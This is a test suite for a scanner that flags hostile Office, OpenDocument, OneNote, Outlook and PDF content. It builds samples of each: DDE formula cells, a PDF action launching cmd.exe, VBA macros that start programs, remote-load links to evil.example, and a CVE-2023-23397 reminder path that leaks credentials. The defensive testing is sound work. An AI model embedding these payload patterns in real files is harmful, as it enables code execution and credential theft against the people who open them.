"""Documents that other programs read, and in which we saw nothing: by a word, a name or an empty record."""

from __future__ import annotations

import struct

import pytest

from bridge.service.analysis.content.office_attacks import starts_program
from bridge.service.analysis.content.office_files import office_members
from bridge.service.analysis.content.pdf_files import pdf_members
from bridge.service.analysis.content.unpacking import Budget
from bridge.service.analysis.inspection import inspect
from bridge.service.analysis.limits import Limits
from tests.processor_time import fair_cpu_s
from tests.service.service_kit import attached, zipped
from tests.service.test_service_documents import ole, vba

_CELL = "cmd|'/C calc'!A0"
_ODS = b"application/vnd.oasis.opendocument.spreadsheet"
_OFFICE = "xmlns:office='urn:oasis:names:tc:opendocument:xmlns:office:1.0' xmlns:table='t'"


def tags(content: bytes, name: str) -> set[str]:
    return set(inspect(attached(content, name), Limits()).tags)


def pdf(between: bytes) -> bytes:
    """A page with a link, and an action that starts a program; a comment with the word `stream` comes first."""
    objects = [
        b"<</Type/Catalog/Pages 2 0 R/OpenAction 5 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]/Annots[4 0 R]>>",
        b"<</Type/Annot/Subtype/Link/Rect[0 0 99 99]/A<</S/URI/URI(https://evil.example/login)>>>>",
        b"<</S/Launch/Win<</F(cmd.exe)/P(/c calc)>>>>",
    ]
    numbered = (b"%d%b0 obj\n%b\nendobj\n" % (at, between, each) for at, each in enumerate(objects, 1))
    return b"%PDF-1.4\n% stream\n" + b"".join(numbered) + b"trailer\n<</Root 1 0 R>>\n%%EOF\n"


@pytest.mark.parametrize(
    "between", [b" ", b" " * 25, b" %x\n", b"\n" * 25], ids=["plain", "spaces", "comment", "lines"]
)
def test_a_comment_with_the_word_stream_hid_all_of_a_pdf_document(between: bytes) -> None:
    found = inspect(attached(pdf(between), "a.pdf"), Limits())
    assert "pdf:launch" in found.tags and "evil.example" in found.hosts


@pytest.mark.parametrize(
    ("content", "name"),
    [
        (f"a\t={_CELL}\r\n", "a.xls"),
        (f"<html><table><tr><td>={_CELL}</td></tr></table></html>", "a.xls"),
        (f"<html><table><tr><td>&#61;{_CELL}</td></tr></table></html>", "a.xls"),
        (f'<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"><Cell ss:Formula="={_CELL}"/>', "a.xml"),
        (f'TABLE\r\n0,1\r\n"x"\r\nDATA\r\n-1,0\r\nBOT\r\n1,0\r\n"={_CELL}"\r\n', "a.dif"),
    ],
    ids=["text", "page", "reference", "XML", "dif"],
)
def test_a_cell_that_starts_a_program_was_found_in_csv_alone(content: str, name: str) -> None:
    """Excel opens all of these."""
    assert "office:dde" in tags(content.encode(), name)


@pytest.mark.parametrize(
    "cell",
    [
        "<table:table-cell table:formula='of:=DDE(&quot;cmd&quot;;&quot;/C calc&quot;;&quot;A0&quot;)'/>",
        "<office:dde-source office:dde-application='cmd' office:dde-topic='/C calc'/>",
    ],
    ids=["formula", "source"],
)
def test_a_cell_of_opendocument_that_starts_a_program_was_not_found(cell: str) -> None:
    content = f"<office:document-content {_OFFICE}>{cell}</office:document-content>".encode()
    assert "office:dde" in tags(zipped(("mimetype", _ODS), ("content.xml", content)), "a.ods")


@pytest.mark.parametrize("text", ["<html>a | b ! c</html>", "=A1|B1\r\n", "Price | 5!\r\n-x | y\r\n"])
def test_an_ordinary_table_has_no_such_cell(text: str) -> None:
    assert not {"office:dde", "office:dde-link"} & tags(text.encode(), "a.xls")


@pytest.mark.parametrize(
    "line",
    [
        'ExecuteExcel4Macro "CALL(""kernel32"",""WinExec"",""JFF"",""calc"",1)"',
        'ShellExecuteA 0, "open", "calc.exe", "", "", 1',
        'WinExec "calc.exe", 1',
        "CreateProcessA",
        'GetObject("new:72C24DD5-D70A-438B-8A42-98424B88AFB8").Run "calc"',
        'CreateObject("WbemScripting.SWbemLocator")',
        'CreateObject("Schedule.Service")',
    ],
)
def test_a_macro_that_starts_a_program_in_another_way_was_not_found(line: str) -> None:
    source = f'Attribute VB_Name = "M"\r\nSub AutoOpen()\r\n{line}\r\nEnd Sub\r\n'.encode()
    content = zipped(("[Content_Types].xml", b"<Types/>"), ("word/vbaProject.bin", ole({"M": vba(source)})))
    assert "office:macro-runs-program" in tags(content, "a.docm")


def test_text_of_an_old_document_is_no_macro() -> None:
    """A picture, a paragraph and a number look like the beginning of a source that is not compressed."""
    text = b"\x01\r1. Introduction: each option of the function in the shell " + b"of the program. " * 500
    assert not {"mime:macro", "office:macro-runs-program"} & tags(ole({"WordDocument": text}), "a.doc")


@pytest.mark.parametrize("empty", [b"", bytes(4), bytes(12)], ids=["none", "one", "three"])
def test_an_empty_record_ended_the_reading_of_a_workbook(empty: bytes) -> None:
    def record(kind: int, data: bytes) -> bytes:
        return struct.pack("<HH", kind, len(data)) + data

    def beginning(kind: int) -> bytes:
        return record(0x809, struct.pack("<HHHHII", 0x600, kind, 0, 0, 0, 0))

    sheet = record(0x85, struct.pack("<IBB", 0, 0, 1) + b"\x01\0M")
    name = record(0x18, struct.pack("<HBBHHHBBBB", 0x20, 0, 1, 0, 0, 1, 0, 0, 0, 0) + b"\0\x01")
    formula = record(0x06, bytes(20) + struct.pack("<H", 8) + b"\x17\x04\0calc\x42\x01\x6e\0")
    book = beginning(5) + empty + sheet + name + record(10, b"") + beginning(0x40) + formula + record(10, b"")
    assert {"mime:macro", "office:auto-macro"} <= tags(ole({"Workbook": book}), "a.xls")


@pytest.mark.parametrize(
    "target",
    [
        "../Quality/Control%20-%20Plan.xlsx",
        "Handbuch/Explorer%20-%20Anleitung.pdf",
        "file:///\\\\srv\\docs\\Control - Overview 2024.docx",
        "file://files.firma.example/tools/Intranet.url",
    ],
)
def test_links_to_ordinary_files_start_nothing(target: str) -> None:
    assert not starts_program(target)


_SCRIPT = "vnd.sun.star.script:x.py$run?language=Python&location="


@pytest.mark.parametrize(
    ("target", "expected"),
    [
        (_SCRIPT + "share", True),
        (_SCRIPT + "user&location=document", True),
        ("vnd.sun.star.script:../../x.py$run?location=share", True),
        ("vnd.libreoffice.command:x", True),
        (_SCRIPT + "document", False),
        ("vnd.sun.star.script:Template.Letter.Main?language=Basic&location=application", False),
    ],
)
def test_a_link_to_a_script_of_libreoffice_was_no_program(target: str, expected: bool) -> None:
    """A click runs a script that is on the machine already, with any arguments."""
    assert starts_program(target) == expected


def _onenote(text: str, before: bytes = b"") -> bytes:
    return bytes.fromhex("e4525c7b8cd8a74d") + bytes(200) + before + text.encode("utf-16-le") + bytes(50)


def _property(link: str) -> bytes:
    """A set of properties with one: the link of a picture."""
    return _onenote(link, b"\x01\0" + (0x1C001E20).to_bytes(4, "little") + (2 * len(link)).to_bytes(4, "little"))


def _formula(link: str) -> bytes:
    cell = f'<worksheet><sheetData><c><f>Hyperlink("{link[:5]}"&amp;"{link[5:]}","x")</f></c></sheetData></worksheet>'
    return zipped(("[Content_Types].xml", b"<Types/>"), ("xl/worksheets/sheet1.xml", cell.encode()))


def _part(name: str, xml: str) -> bytes:
    return zipped(("[Content_Types].xml", b"<Types/>"), (name, xml.encode()))


_LINKED = {
    "a.xlsx": _formula,
    "a.ods": lambda link: f"<a {_OFFICE}><c table:formula='of:=HYPERLINK(&quot;{link}&quot;)'/></a>".encode(),
    "a.docx": lambda link: _part(
        "word/document.xml", f'<d><v:shape href="https://ok.example"/><v:x href="{link}"/></d>'
    ),
    "a.vdx": lambda link: (
        f"<VisioDocument><Hyperlink><Address F='x'>{link}</Address></Hyperlink></VisioDocument>".encode()
    ),
    "cdata.vdx": lambda link: f"<v:VisioDocument><v:Address><![CDATA[{link}]]></v:Address></v:VisioDocument>".encode(),
    "a.vsdx": lambda link: _part("visio/pages/page1.xml", f'<p><Cell N="Address" V="{link}"/></p>'),
    "a.one": lambda link: _onenote(f'\ufddfHYPERLINK "{link}"Open'),
    "picture.one": _property,
}


@pytest.mark.parametrize("name", _LINKED)
def test_a_link_that_starts_a_program_was_only_seen_in_relations(name: str) -> None:
    for link in ("search-ms:query=x", "file://evil.example/share/a.exe"):
        assert "office:launch" in tags(_LINKED[name](link), name)
    for link in ("https://ok.example/a.exe", "file://files/share/a.docx"):
        assert "office:launch" not in tags(_LINKED[name](link), name)


def test_a_catalogue_with_links_in_formulas_is_read() -> None:
    """As many as Excel allows, each with a text of its own."""
    cell = '<c><f>HYPERLINK("https://shop.example/{0}","Article {0}")</f></c>'
    sheet = f"<worksheet><sheetData>{''.join(map(cell.format, range(65_530)))}</sheetData></worksheet>"
    budget = Budget()
    list(office_members(sheet.encode(), ("xl/worksheets/sheet1.xml",), budget))
    assert budget.work > Budget().work // 2


@pytest.mark.parametrize("name", _LINKED)
def test_many_such_links_take_linear_time(name: str) -> None:
    content = _LINKED[name](" ".join(f"file://a{number}.example/x" for number in range(5000)))
    spaces = _LINKED[name]("href " + " " * 200_000)
    assert fair_cpu_s(lambda: (tags(content, name), tags(spaces, name))) < 2


@pytest.mark.parametrize(
    "action",
    [
        "/S/GoToR/F({})",
        "/S/GoToR/F<</FS/URL/F({})>>",
        "/S/GoToE/F<</UF({})>>",
        "/S/Thread/F({})",
        "/S/ImportData/F({})",
    ],
)
def test_a_file_of_an_action_in_a_pdf_document_was_no_address(action: str) -> None:
    for file, expected in (
        ("file://evil.example/share/a.exe", True),
        ("search-ms:query=x", True),
        ("https://ok.example/a.pdf", False),
        ("file://files/share/a.exe", False),
        ("part 2: a.pdf", False),
    ):
        found = tags(_linked_pdf("", action.format(file)), "a.pdf")
        assert ("pdf:launch" in found) == expected, file


def test_the_base_of_the_addresses_in_a_pdf_document_was_ignored() -> None:
    link = "/S/URI/URI(a.exe)"
    assert "pdf:launch" in tags(_linked_pdf("/URI<</Base(file://evil.example/share/)>>", link), "a.pdf")
    assert not {"pdf:launch", "mime:executable"} & tags(_linked_pdf("/URI<</Base(http://ok.com)>>", link), "a.pdf")
    assert "mime:executable" not in tags(_linked_pdf("/URI<</Base(ok.com)>>", link), "a.pdf")


def _linked_pdf(catalog: str, action: str) -> bytes:
    annotation = f"2 0 obj<</Subtype/Link/A<<{action}>>>>endobj"
    return f"%PDF-1.7\n1 0 obj<</Type/Catalog{catalog}>>endobj\n{annotation}\ntrailer<</Root 1 0 R>>\n".encode()


@pytest.mark.parametrize(
    ("element", "expected"),
    [
        ('<draw:floating-frame xlink:href="http://evil.example/a.odt"/>', True),
        ('<draw:floating-frame draw:name="a>b" xlink:href="http://evil.example/a.odt"/>', True),
        ("<t:section-source xlink:href='https://evil.example/a.odt'/>", True),
        ('<draw:object xlink:href="http://evil.example/a.odt"/>', True),
        ('<draw:object-ole xlink:href="&u;"/>', True),
        ('<meta:auto-reload xlink:href="http://evil.example/"/>', True),
        ('<draw:object xlink:href="./Object 1"/><t:a xlink:href="http://ok.example/"/>', False),
        ('<draw:floating-frame xlink:href="http://files/a.odt"/>', False),
        ('<draw:image xlink:href="http://ok.example/a.png"/>', False),
    ],
)
def test_what_an_opendocument_file_loads_from_the_internet_had_no_tag(element: str, expected: bool) -> None:
    declared = '<!DOCTYPE x [<!ENTITY u "http://evil.example/x">]>' if "&u;" in element else ""
    content = zipped(("content.xml", f"{declared}<x {_OFFICE}>{element}</x>".encode()))
    assert ("office:remote-object" in tags(content, "a.odt")) == expected


@pytest.mark.parametrize("piece", ['<draw:object "', "<draw:object ", '<draw:object xlink:href="http://a{}/"/>'])
def test_many_frames_take_linear_time(piece: str) -> None:
    content = f"<x {_OFFICE}>//{''.join(map(piece.format, range(20_000)))}".encode()
    assert fair_cpu_s(lambda: tags(content, "a.fodt")) < 2


_NUMBERS = struct.pack("<IHH", 0x851F, 6, 0x1F)


@pytest.mark.parametrize(
    ("number", "path", "expected"),
    [
        (_NUMBERS, "\\\\evil.example\\share\\a.wav", True),
        (_NUMBERS, "\\\\files\\share\\a.wav", False),
        (_NUMBERS, "reminder.wav", False),
        (struct.pack("<IHH", 0x8520, 6, 0x1F), "\\\\evil.example\\share\\a.wav", False),
    ],
)
def test_the_sound_of_a_reminder_sent_a_password_to_a_server(number: bytes, path: str, expected: bool) -> None:
    """CVE-2023-23397."""
    for name, value in (("001f", path.encode("utf-16-le")), ("001e", path.encode())):
        streams = {"__substg1.0_801F" + name: value, "__substg1.0_00030102": number}
        assert ("office:exploit" in tags(ole(streams), "a.msg")) == expected
        assert ("office:exploit" in tags(ole(dict(reversed(streams.items()))), "a.msg")) == expected


def test_many_filters_of_one_stream_took_a_minute() -> None:
    """Each was combined with each dictionary of parameters."""
    about = b"/Filter/FlateDecode" * 3000 + b"/DecodeParms<</Columns 1/Predictor 1>>" * 3000
    content = b"%PDF-1.4\n1 0 obj\n<<" + about + b">>stream\nx\nendstream\nendobj\n"
    assert fair_cpu_s(lambda: list(pdf_members(content, Budget()))) < 2


def test_a_value_that_is_nested_deeply_is_read_without_an_error() -> None:
    deep = b"[" * 50_000 + b"]" * 50_000
    before = b"%PDF-1.4\n" + b"5 0 obj\n%b\nendobj\n" % deep * 2
    stream = b"1 0 obj\n<</Filter 5 0 R>>stream\nx\nendstream\nendobj\n"
    assert "pdf:launch" in tags(pdf(b" ").replace(b"%PDF-1.4\n", before + stream), "a.pdf")
